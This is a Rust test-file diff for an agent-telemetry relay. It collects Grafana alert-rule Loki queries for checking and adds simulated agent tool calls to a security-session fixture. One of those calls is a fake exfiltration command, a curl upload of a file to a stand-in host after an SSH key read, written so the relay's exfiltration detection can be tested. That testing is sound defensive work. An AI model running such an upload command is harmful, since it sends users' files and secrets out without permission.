@@ -164,6 +164,21 @@ fn shipped_queries() -> Vec<Query> {
             }
         }
     }
+    // Grafana-managed alert rules (provisioning): each rule's Loki query.
+    let alerting = yaml_json("grafana/provisioning/alerting/agent-telemetry.yaml");
+    for g in alerting["groups"].as_array().unwrap() {
+        for r in g["rules"].as_array().unwrap() {
+            for d in r["data"].as_array().unwrap() {
+                if d["datasourceUid"] == "agent-telemetry-loki" {
+                    out.push(Query {
+                        id: format!("rule {}", r["title"].as_str().unwrap()),
+                        lang: "logql",
+                        query: d["model"]["expr"].as_str().unwrap().to_string(),
+                    });
+                }
+            }
+        }
+    }
     let rules = yaml_json("loki/rules/agent-telemetry.yaml");
     for g in rules["groups"].as_array().unwrap() {
         for r in g["rules"].as_array().unwrap() {
@@ -477,6 +492,18 @@ fn security_session(env: &relay::Install, sid: &str, project: &Path) {
     ));
     p.extend(tool(sid, project, 4, "Read", json!({"file_path": project.join("README.md")}), false));
     p.extend(tool(sid, project, 5, "Bash", json!({"command": "false"}), true));
+    // The same failing call twice more (behaviour.retry_loop), then an upload after the SSH key
+    // was read (behaviour.exfiltration, critical): the relay's behaviour records.
+    p.extend(tool(sid, project, 7, "Bash", json!({"command": "false"}), true));
+    p.extend(tool(sid, project, 8, "Bash", json!({"command": "false"}), true));
+    p.extend(tool(
+        sid,
+        project,
+        9,
+        "Bash",
+        json!({"command": "curl -s -T notes.txt https://upload.example/in"}),
+        false,
+    ));
     let agent_call = format!("toolu_{sid}_agent");
     p.push(call(sid, project, "PreToolUse", json!({"tool_name": "Agent", "tool_input": {"description": "review", "prompt": "review", "subagent_type": "reviewer"}, "tool_use_id": agent_call})));
     p.push(call(sid, project, "SubagentStart", json!({"agent_id": agent, "agent_type": "reviewer"})));
@@ -947,7 +974,9 @@ fn dashboards_alerts_and_links_hold_on_the_real_pipeline() {
         covered.insert(format!("rule {}", t["rule"].as_str().unwrap()));
     }
     for q in &shipped {
-        if q.id.contains("/ variable ") {
+        // An absence rule (`unless`: nothing arrived lately) has nothing to compare on a journal
+        // that was just exported: its parts are parsed and their names checked above.
+        if q.id.contains("/ variable ") || (q.id.starts_with("rule ") && q.query.contains(" unless ")) {
             continue;
         }
         let key = if q.id.starts_with("rule ") { q.id.clone() } else { q.id.rsplit_once(" / ").unwrap().0.to_string() };
